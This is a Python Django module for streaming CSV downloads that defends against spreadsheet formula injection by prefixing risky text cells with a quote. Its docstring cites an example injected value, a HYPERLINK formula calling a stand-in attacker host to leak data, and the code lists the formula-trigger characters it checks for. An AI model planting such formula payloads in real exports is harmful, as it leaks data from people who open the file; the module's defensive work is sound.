"""The one way the project writes CSV.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with
``=``, ``+``, ``-`` or ``@`` — or with a tab or carriage return before one —
as a formula: a startup named ``=HYPERLINK("https://evil.example","x")``
becomes a link that leaks data when a manager opens the export. Every text
cell that starts so is written with a leading ``'``, which spreadsheets show
as text. Numbers are written as they are: a negative amount is no formula.

Lines are produced one at a time, so a response streams rows straight from a
queryset's iterator without holding the file in memory.
"""

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """A value as a cell: ``None`` blank, numbers as they are, text that a
    spreadsheet would run as a formula prefixed with ``'``."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Line:
    """A file-like object whose ``write`` hands the line back instead of storing it."""

    def write(self, line: str) -> str:
        return line


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The CSV text, header first, one line (with its line ending) at a time."""
    writer = csv.writer(_Line())
    yield writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_response(*, filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]) -> StreamingHttpResponse:
    """A download of the CSV, streamed. ``filename`` is put in the header as
    given: pass a name built from slugs, not from user text."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
